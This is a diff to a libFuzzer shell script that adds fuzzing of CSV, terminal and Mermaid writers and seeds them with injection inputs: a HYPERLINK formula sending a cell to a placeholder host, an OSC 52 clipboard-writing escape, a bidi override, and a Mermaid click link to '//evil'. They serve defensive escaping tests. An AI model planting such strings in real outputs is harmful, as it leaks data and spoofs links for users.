@@ -1,5 +1,6 @@
 #!/usr/bin/env bash
-# Fuzzes the loader, scheduler, reports and the date, duration and number parsers with libFuzzer
+# Fuzzes the loader, scheduler, reports, the CSV, terminal and Mermaid writers, and the date, duration
+# and number parsers with libFuzzer
 # (address sanitizer on), seeded with every fixture and plan of the repository.
 #   scripts/fuzz.sh SECONDS [JOBS]
 # Crashes and timeouts are written to fuzz-artifacts/; keep each as a regression fixture.
@@ -28,6 +29,13 @@ for text in 2017-10-20 2017-10 2020 2017-Q4 2018-H1 +2y +18m 2017年10月20日 2
   2018年第四季度 2018年上半年 6w 60d 0d 2y 3m 80.5 -0.25; do
   n=$((n + 1)); printf '\x02%s' "$text" > "$corpus/seed-$n"
   n=$((n + 1)); printf '\x03%s' "$text" > "$corpus/seed-$n"
+done
+# Seeds for the escaping writers: text for the CSV, terminal and diagnostic writers (mode 4), task names,
+# one a line, for the Mermaid writer (mode 5).
+for text in '=HYPERLINK("http://x/?"&B3,"x")' '-5' $'\e]52;c;SGVsbG8=\a' $'a\u202Eb\r\n\x00' '👩‍👩‍👧❤️中文' \
+  $'Section 1 kickoff\nclick t0 href "//evil"\n5% budget cut\n%%{init}%%\n2017-10-01 x\n　title 中文：；＃'; do
+  n=$((n + 1)); printf '\x04%s' "$text" > "$corpus/seed-$n"
+  n=$((n + 1)); printf '\x05%s' "$text" > "$corpus/seed-$n"
 done
 echo "fuzzing for $seconds s with $jobs job(s), $(ls "$corpus" | wc -l) inputs in $corpus" >&2
 exec "$binary" "$corpus" -max_total_time="$seconds" -timeout=10 -rss_limit_mb=2048 -max_len=65536 \
